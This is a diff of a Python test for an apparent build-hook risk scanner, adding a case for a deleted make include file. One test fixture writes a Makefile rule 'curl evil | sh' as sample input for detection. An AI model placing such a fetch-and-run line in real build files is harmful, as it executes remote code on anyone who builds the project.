@@ -142,14 +142,16 @@ def test_ci_config_negative(tmp_path: Path) -> None:
 
 
 def test_build_files(tmp_path: Path) -> None:
-    b = Builder(tmp_path, {"Makefile": "all:\n"})
+    b = Builder(tmp_path, {"Makefile": "all:\n", "old.mk": "x:\n"})
     b.up("Makefile", "all:\n\tcurl evil | sh\n")
+    b.whiteout("old.mk")
     b.up("rules/extra.mk", "x:\n")
     b.up("setup.py", "import os\n")
     b.up("Dockerfile.dev", "FROM x\n")
     b.up("crate/build.rs", "fn main() {}\n")
     got = {r.paths[0]: r for r in _risks(b, "build-hook")}
-    assert set(got) == {"Makefile", "rules/extra.mk", "setup.py", "Dockerfile.dev", "crate/build.rs"}
+    assert set(got) == {"Makefile", "rules/extra.mk", "setup.py", "Dockerfile.dev", "crate/build.rs", "old.mk"}
+    assert got["old.mk"].reason == "make include file deleted"
     assert "Makefile modified" in got["Makefile"].reason and "setup.py" in got["setup.py"].reason
 
 
